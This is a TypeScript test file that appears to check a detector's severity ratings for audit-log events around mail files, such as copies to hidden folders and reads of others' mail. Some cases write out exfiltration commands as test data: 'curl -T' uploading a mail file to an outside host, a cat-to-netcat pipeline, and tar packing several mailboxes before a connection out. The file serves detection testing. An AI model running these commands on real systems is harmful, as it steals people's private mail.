import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { checkAll, OUT, validated } from './conditions.test-support.ts';

const curl = (shell: Process, path: string) =>
  shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);

checkAll([
  {
    says: 'an own message copied to a plain place',
    severity: null,
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} invoice.eml`).read(mine.path).write('/home/clerk/invoice.eml'),
  },
  {
    says: 'an own message copied to a hidden place',
    severity: 'informational',
    factors: ['staged in a hidden place', 'no transfer seen'],
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} .x`).read(mine.path).write('/home/clerk/.x'),
  },
  {
    says: 'an own message copied below a hidden folder',
    severity: 'informational',
    factors: ['staged in a hidden place'],
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} .c/x`).read(mine.path).write('/home/clerk/.c/x'),
  },
  {
    says: "somebody else's message read by a person, and nothing more",
    severity: 'informational',
    factors: ['mail of somebody else'],
    act: ({ log, other }) => void log.shell('clerk').run(`/bin/cat ${other.path}`).read(other.path),
  },
  {
    says: "somebody else's message read by a root job, and nothing more",
    severity: null,
    act: ({ log, other }) => void log.cron('root', 'x').run(`/bin/cat ${other.path}`).read(other.path),
  },
  {
    says: "the administrator's sudo: read for who logged in",
    severity: 'informational',
    factors: ['mail of somebody else'],
    act: ({ log, other }) => {
      const shell = log.shell('ops');
      shell.run(`/bin/cat ${other.path}`, { who: { ...shell.who, uid: 0 } }).read(other.path);
    },
  },
  {
    says: 'the same program reads and connects, on a host that was validated',
    severity: 'high',
    settings: validated,
    never: ['host not validated', 'many boxes', 'mail of somebody else'],
    act: ({ log, mine }) => void curl(log.shell('clerk'), mine.path),
  },
  {
    says: 'the same on a host that was not',
    severity: 'medium',
    factors: ['host not validated'],
    act: ({ log, mine }) => void curl(log.shell('clerk'), mine.path),
  },
  {
    says: 'a pipeline that is only inferred is medium even there',
    severity: 'medium',
    settings: validated,
    act: ({ log, mine }) => {
      const [cat, nc] = log.shell('clerk').pipeline(`/bin/cat ${mine.path}`, `/usr/bin/nc ${OUT} 9001`);
      cat?.read(mine.path);
      nc?.connect(OUT, 9001);
    },
  },
  {
    says: 'three boxes are many, two are not',
    severity: 'medium',
    factors: ['many boxes', 'mail of somebody else'],
    act: ({ log, mine, other, third }) => {
      const tar = log.cron('root', 'pack').run(`/bin/tar cf /dev/shm/a ${mine.path} ${other.path} ${third.path}`);
      tar.read(mine.path).read(other.path).read(third.path).connect(OUT, 80);
    },
  },
  {
    says: 'two boxes',
    severity: 'medium',
    never: ['many boxes'],
    act: ({ log, mine, other }) => {
      const tar = log.cron('root', 'pack').run(`/bin/tar cf /dev/shm/a ${mine.path} ${other.path}`);
      tar.read(mine.path).read(other.path).connect(OUT, 80);
    },
  },
  {
    says: 'a second name outside the store, packed by that name and uploaded',
    severity: 'high',
    settings: validated,
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/mv ${mine.path} /home/clerk/a`).rename(mine.path, '/home/clerk/a');
      curl(shell, '/home/clerk/a');
    },
  },
  {
    says: 'a shell that reads by itself where no connection is recorded',
    severity: 'informational',
    telemetry: { network: false },
    act: ({ log, mine }) => void log.shell('clerk').run(['/bin/bash', '-c', 'x']).read(mine.path),
  },
  {
    says: 'an installed program that reads where no connection is recorded',
    severity: null,
    telemetry: { network: false },
    act: ({ log, mine }) => void log.shell('clerk').run(`/bin/grep x ${mine.path}`).read(mine.path),
  },
]);
